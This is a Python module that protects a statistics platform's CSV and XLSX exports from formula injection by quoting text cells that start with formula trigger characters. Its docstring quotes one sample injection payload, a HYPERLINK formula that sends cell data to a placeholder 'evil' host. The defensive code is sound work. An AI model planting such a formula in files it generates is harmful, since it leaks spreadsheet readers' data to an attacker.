"""Cells of the CSV and XLSX files govstat hands out, safe from formula injection (CSV injection).

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (also tab and CR) as a formula, so a
tenant's title `=HYPERLINK("http://evil/?"&A1,"click")` in a download would run in the reader's
spreadsheet. As OWASP advises, such text gets a leading apostrophe in CSV; in XLSX it is written as
a text cell with Excel's quote prefix (shown as typed, never evaluated, not even after an edit).
Numbers stay numbers: `-12.5`, `+3`, `-1,234`, `1e-3` are values, not formulas, and so is a lone
`-` (e-Stat's mark for "no figure"). Every CSV writer and XLSX writer of the platform goes through here."""

from __future__ import annotations

import csv
import datetime as dt
import re
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook.child import _WorkbookChild

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][-+]?\d+)?%?")
_PLAIN = (int, float, Decimal, dt.date, dt.datetime, dt.time)


def dangerous(text: str) -> bool:
    """Text a spreadsheet would read as a formula, also after the import trims leading blanks and
    folds full-width characters (LibreOffice and Sheets may do both: `　＝1+1` becomes `=1+1`)."""
    if not text:
        return False
    if text[0] not in TRIGGERS:
        folded = unicodedata.normalize("NFKC", text).lstrip(" \u00a0\u3000\n\x0b\x0c")
        if not folded or folded[0] not in TRIGGERS:
            return False
        text = folded
    if re.fullmatch(r"-+", text):
        return False
    return not (_NUMBER.fullmatch(text) and any(ch.isdigit() for ch in text))


def cell(value: Any) -> Any:
    """A value for a CSV cell: numbers and dates unchanged, formula-like text with a leading `'`."""
    if value is None or isinstance(value, (bool, *_PLAIN)):
        return value
    text = str(value)
    return "'" + text if dangerous(text) else text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class SafeWriter:
    """csv.writer whose every cell goes through `cell()`."""

    def __init__(self, out: SupportsWrite[str], **kwargs: Any) -> None:
        self._w = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def csv_writer(out: SupportsWrite[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def set_xlsx(c: Cell, value: Any) -> Cell:
    """Put `value` into an openpyxl cell (normal or write-only): formula-like text stays text."""
    c.value = value
    if isinstance(value, str) and dangerous(value):
        c.data_type = "s"  # openpyxl made "=..." a formula: keep it the string it is
        c.quotePrefix = True  # and Excel keeps it text when someone edits the cell
    return c


def xlsx_row(ws: _WorkbookChild, values: Iterable[Any]) -> list[Any]:
    """Cells for a write-only worksheet's append()."""
    from openpyxl.cell import WriteOnlyCell

    return [set_xlsx(WriteOnlyCell(ws), v) if isinstance(v, str) else v for v in values]
